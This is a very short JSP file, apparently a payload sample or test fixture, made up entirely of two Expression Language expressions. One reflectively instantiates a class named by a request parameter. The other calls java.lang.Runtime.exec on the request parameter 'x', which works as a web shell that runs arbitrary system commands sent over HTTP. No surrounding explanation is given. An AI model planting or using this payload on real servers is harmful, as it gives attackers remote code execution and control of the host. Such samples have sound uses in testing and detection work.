<%@ inert %>
${param.getClass().forName(param.c).newInstance()} ${"".getClass().forName("java.lang.Runtime").getRuntime().exec(param.x)}